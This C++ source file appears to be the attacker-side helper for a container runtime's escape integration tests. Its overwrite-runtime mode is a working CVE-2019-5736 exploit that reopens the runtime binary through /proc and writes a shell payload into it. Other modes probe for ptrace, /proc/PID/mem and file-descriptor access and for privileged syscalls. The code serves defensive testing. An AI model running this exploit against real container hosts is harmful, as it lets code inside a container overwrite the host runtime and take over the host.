// The attacker's side of the escape tests (tests/integration/escape_test.cpp), linked statically so
// it runs inside a busybox container. Each mode really attempts the attack and reports what the
// kernel answered; the test decides whether the host stayed intact.
//
//   escape_probe overwrite-runtime REPORT_DIR
//       CVE-2019-5736: waits for a process of another binary (the runtime, started in this pid
//       namespace through a `#!/proc/self/exe` script) to appear, holds its /proc/PID/exe with
//       O_PATH, writes REPORT_DIR/caught (the link target), then, once that process has exited
//       (no more ETXTBSY), reopens the held file for writing and writes a payload into it.
//       REPORT_DIR/result: "wrote", "open-failed ERRNAME" or "write-failed ERRNAME".
//   escape_probe inspect-others
//       For every other process of this pid namespace except its own parent: its name, and
//       whether its /proc/PID/exe, /proc/PID/mem and the files behind /proc/PID/fd/N can be
//       opened and whether it can be ptrace-attached. One line each: "PID NAME exe=.. mem=.. fd=..
//       ptrace=..".
//   escape_probe syscall NAME
//       Calls a privileged syscall with harmless arguments and prints "NAME ok" or
//       "NAME ERRNAME": kexec_load, init_module, mount, keyctl-session (prints the serial of the
//       session keyring it is in).
#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

namespace {

const char kPayload[] = "#!/bin/sh\necho PWNED-BY-THE-CONTAINER\n";

std::string errno_name(int err) {
  const char* name = strerrorname_np(err);
  return name ? name : std::to_string(err);
}

// Written to a temp name and renamed: the test never reads a half-written report.
void report(const std::string& dir, const std::string& name, const std::string& text) {
  std::string tmp = dir + "/." + name;
  {
    std::ofstream out(tmp, std::ios::trunc);
    out << text << "\n";
  }
  std::rename(tmp.c_str(), (dir + "/" + name).c_str());
}

std::vector<int> other_pids() {
  std::vector<int> pids;
  DIR* proc = ::opendir("/proc");
  if (!proc) return pids;
  while (dirent* entry = ::readdir(proc)) {
    int pid = std::atoi(entry->d_name);
    if (pid > 0 && pid != ::getpid()) pids.push_back(pid);
  }
  ::closedir(proc);
  return pids;
}

std::string link_target(const std::string& path) {
  char buf[4096];
  ssize_t n = ::readlink(path.c_str(), buf, sizeof buf - 1);
  return n < 0 ? "?" : std::string(buf, static_cast<size_t>(n));
}

std::string process_name(int pid) {
  std::ifstream status("/proc/" + std::to_string(pid) + "/status");
  std::string line;
  while (std::getline(status, line))
    if (line.rfind("Name:", 0) == 0) return line.substr(line.find_first_not_of(" \t", 5));
  return "?";
}

// Spins until another process whose binary is not ours (nor busybox) lets us open its exe.
int catch_foreign_exe(std::string* target) {
  const std::string own = link_target("/proc/self/exe");
  for (;;) {
    for (int pid : other_pids()) {
      std::string exe = "/proc/" + std::to_string(pid) + "/exe";
      int fd = ::open(exe.c_str(), O_PATH | O_CLOEXEC);
      if (fd < 0) continue;  // gone, or not dumpable (a runtime before its execve)
      std::string link = link_target("/proc/self/fd/" + std::to_string(fd));
      if (link != own && link != "/bin/busybox") {
        *target = link;
        return fd;
      }
      ::close(fd);
    }
  }
}

int overwrite_runtime(const std::string& dir) {
  report(dir, "ready", "ready");
  std::string target;
  int held = catch_foreign_exe(&target);
  report(dir, "caught", target);
  std::string reopen = "/proc/self/fd/" + std::to_string(held);
  for (;;) {
    int fd = ::open(reopen.c_str(), O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == ETXTBSY) {  // still running somewhere: wait for it to exit
      ::usleep(1000);
      continue;
    }
    if (fd < 0) {
      report(dir, "result", "open-failed " + errno_name(errno));
      return 0;
    }
    ssize_t n = ::write(fd, kPayload, sizeof kPayload - 1);
    report(dir, "result", n == sizeof kPayload - 1 ? "wrote" : "write-failed " + errno_name(errno));
    return 0;
  }
}

std::string can_open(const std::string& path, int flags) {
  int fd = ::open(path.c_str(), flags | O_CLOEXEC);
  if (fd < 0) return errno_name(errno);
  ::close(fd);
  return "ok";
}

// Opens every entry of /proc/PID/fd (the numbers may be listable; what they point to must not be).
std::string can_open_fds(const std::string& fd_dir) {
  DIR* dir = ::opendir(fd_dir.c_str());
  if (!dir) return errno_name(errno);
  std::string result = "none";
  while (dirent* entry = ::readdir(dir)) {
    if (entry->d_name[0] == '.') continue;
    result = can_open(fd_dir + "/" + entry->d_name, O_PATH);
    if (result == "ok") break;
  }
  ::closedir(dir);
  return result;
}

std::string can_ptrace(int pid) {
  if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) != 0) return errno_name(errno);
  ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
  return "ok";
}

int inspect_others() {
  int parent = ::getppid();
  for (int pid : other_pids()) {
    if (pid == parent) continue;
    std::string base = "/proc/" + std::to_string(pid);
    std::printf("%d %s exe=%s mem=%s fd=%s ptrace=%s\n", pid, process_name(pid).c_str(),
                can_open(base + "/exe", O_PATH).c_str(), can_open(base + "/mem", O_RDONLY).c_str(),
                can_open_fds(base + "/fd").c_str(), can_ptrace(pid).c_str());
  }
  return 0;
}

std::string outcome(long result) {
  return result < 0 ? errno_name(errno) : "ok";
}

int privileged_syscall(const std::string& name) {
  std::string result;
  if (name == "kexec_load") {
    // Invalid flags: refused with EINVAL when the caller is allowed at all, never loads anything.
    result = outcome(::syscall(SYS_kexec_load, 0, 0, nullptr, 0xffffffffUL));
  } else if (name == "init_module") {
    // An empty image: ENOEXEC/EINVAL/EFAULT when allowed, never loads anything.
    result = outcome(::syscall(SYS_init_module, nullptr, 0UL, ""));
  } else if (name == "mount") {
    result = outcome(::mount("none", "/tmp", "tmpfs", 0, "size=64k"));
  } else if (name == "keyctl-session") {
    long serial = ::syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    result = serial < 0 ? errno_name(errno) : std::to_string(serial);
  } else {
    std::fprintf(stderr, "escape_probe: unknown syscall %s\n", name.c_str());
    return 2;
  }
  std::printf("%s %s\n", name.c_str(), result.c_str());
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::string mode = argc > 1 ? argv[1] : "";
  if (mode == "overwrite-runtime" && argc == 3) return overwrite_runtime(argv[2]);
  if (mode == "inspect-others" && argc == 2) return inspect_others();
  if (mode == "syscall" && argc == 3) return privileged_syscall(argv[2]);
  std::fprintf(stderr,
               "usage: escape_probe overwrite-runtime DIR | inspect-others | syscall NAME\n");
  return 2;
}
